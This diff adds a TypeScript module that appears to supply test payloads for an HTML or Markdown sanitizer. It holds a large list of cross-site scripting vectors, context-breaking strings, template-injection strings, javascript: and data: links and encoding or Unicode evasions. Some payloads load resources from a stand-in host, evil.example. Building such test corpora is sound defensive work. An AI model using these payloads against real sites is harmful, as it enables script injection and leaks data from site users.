@@ -1,0 +1,140 @@
+/** Names what ran: a payload that runs writes its number here, and one that gets out asks for a picture at the other host. */
+export const RAN = "__ran";
+export const AWAY = "evil.example";
+
+/** What each payload wants to do, short enough to stand anywhere. */
+const DO = `window.${RAN}=1`;
+const OUT = `//${AWAY}/x`;
+
+const TAGS = [
+  `<script>${DO}</script>`,
+  `<SCRIPT SRC=${OUT}></SCRIPT>`,
+  `<script/x>${DO}</script >`,
+  `<script type=module>${DO}</script>`,
+  `<img src=x onerror=${DO}>`,
+  `<img src="${OUT}">`,
+  `<img/src/onerror=${DO}>`,
+  `<img srcset="${OUT} 1x">`,
+  `<image href=x onerror=${DO}>`,
+  `<svg onload=${DO}>`,
+  `<svg/onload=${DO}>`,
+  `<svg><script>${DO}</script></svg>`,
+  `<svg><animate onbegin=${DO} attributeName=x dur=1s>`,
+  `<svg><set onbegin=${DO} attributeName=x>`,
+  `<svg><use href="${OUT}#a"></svg>`,
+  `<svg><image href="${OUT}"></svg>`,
+  `<svg><foreignObject><iframe onload=${DO}></foreignObject></svg>`,
+  `<math><mi xlink:href="javascript:${DO}">x</mi></math>`,
+  `<iframe src="javascript:${DO}">`,
+  `<iframe srcdoc="<script>parent.${RAN}=1</script>">`,
+  `<iframe src="${OUT}">`,
+  `<object data="javascript:${DO}">`,
+  `<embed src="${OUT}">`,
+  `<video src=x onerror=${DO}>`,
+  `<video><source onerror=${DO}></video>`,
+  `<video poster="${OUT}">`,
+  `<audio src=x onerror=${DO}>`,
+  `<details open ontoggle=${DO}>`,
+  `<input autofocus onfocus=${DO}>`,
+  `<select autofocus onfocus=${DO}>`,
+  `<textarea autofocus onfocus=${DO}>`,
+  `<body onload=${DO}>`,
+  `<body background="${OUT}">`,
+  `<marquee onstart=${DO}>`,
+  `<style>@import '${OUT}';</style>`,
+  `<style>*{background:url(${OUT})}</style>`,
+  `<link rel=stylesheet href="${OUT}">`,
+  `<link rel=preload as=image href="${OUT}">`,
+  `<meta http-equiv=refresh content="0;url=${OUT}">`,
+  `<base href="${OUT}/">`,
+  `<form action="${OUT}"><input name=a><button>x</button></form>`,
+  `<a href="javascript:${DO}" autofocus>x</a>`,
+  `<a href="${OUT}" ping="${OUT}">x</a>`,
+  `<button popovertarget=p onclick=${DO}>x</button>`,
+  `<template shadowrootmode=open><script>${DO}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${DO}>">`,
+  `<xmp><p title="</xmp><img src=x onerror=${DO}>">`,
+  `<!--><img src=x onerror=${DO}>-->`,
+  `<![CDATA[<script>${DO}</script>]]>`,
+  `<?xml-stylesheet href="${OUT}"?>`,
+  `<table background="${OUT}"><tr><td>x</table>`,
+  `<div style="background:url(${OUT})">x</div>`,
+  `<div contenteditable onblur=${DO}>x</div>`,
+  `<p onpointerenter=${DO} onmouseover=${DO}>x</p>`,
+  `<x onfocus=${DO} tabindex=1 id=x>`,
+  `<dialog open onclose=${DO}><form method=dialog></dialog>`,
+];
+
+const BREAKS = [
+  `"><script>${DO}</script>`,
+  `'><img src=x onerror=${DO}>`,
+  `" autofocus onfocus=${DO} x="`,
+  `' onmouseover=${DO} '`,
+  `\`onmouseover=${DO}\``,
+  `</textarea><script>${DO}</script>`,
+  `</title><script>${DO}</script>`,
+  `</script><script>${DO}</script>`,
+  `</style><script>${DO}</script>`,
+  `]]><script>${DO}</script>`,
+  `--><script>${DO}</script>`,
+  `*/${DO};/*`,
+  `';${DO};'`,
+  `";${DO};"`,
+  `\\";${DO};//`,
+  `\${${DO}}`,
+  `{{constructor.constructor('${DO}')()}}`,
+  `#{${DO}}`,
+  `<%= ${DO} %>`,
+];
+
+const LINKS = [
+  `javascript:${DO}`,
+  `JaVaScRiPt:${DO}`,
+  `java\tscript:${DO}`,
+  `java&#x0A;script:${DO}`,
+  `&#106;avascript:${DO}`,
+  `vbscript:${DO}`,
+  `data:text/html,<script>${DO}</script>`,
+  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==`,
+  `https://${AWAY}/x`,
+  OUT,
+  `\\\\${AWAY}\\x`,
+  `/\\${AWAY}/x`,
+];
+/** What Markdown makes of an address: links, pictures, references, angle brackets. */
+const IN_MARKDOWN: readonly ((address: string) => string)[] = [
+  (address) => `[x](${address})`,
+  (address) => `![x](${address})`,
+  (address) => `[x](<${address}> "t")`,
+  (address) => `[x][r]\n\n[r]: ${address}`,
+  (address) => `<${address}>`,
+];
+
+const ENCODED = [
+  `&lt;script&gt;${DO}&lt;/script&gt;`,
+  `&#60;img src=x onerror=${DO}&#62;`,
+  `%3Cscript%3E${DO}%3C/script%3E`,
+  `\\u003cscript\\u003e${DO}\\u003c/script\\u003e`,
+  `\\x3cscript\\x3e${DO}`,
+  `＜script＞${DO}＜/script＞`,
+  `‹img src=x onerror=${DO}›`,
+  `<scr\u0000ipt>${DO}</scr\u0000ipt>`.replaceAll("\u0000", ""),
+  `<scr<script>ipt>${DO}</scr</script>ipt>`,
+  `<<script>${DO}//<</script>`,
+  `<img src=x onerror\u00a0=${DO}>`,
+  `<img src=x one\u200brror=${DO}>`,
+  `\u202e<script>${DO}</script>`,
+  `__proto__[${RAN}]=1`,
+  `constructor.prototype.${RAN}=1`,
+];
+
+/** Every payload, each once. */
+export const PAYLOADS: readonly string[] = [
+  ...new Set([
+    ...TAGS,
+    ...BREAKS,
+    ...ENCODED,
+    ...LINKS,
+    ...LINKS.flatMap((address) => IN_MARKDOWN.map((wrap) => wrap(address))),
+  ]),
+];
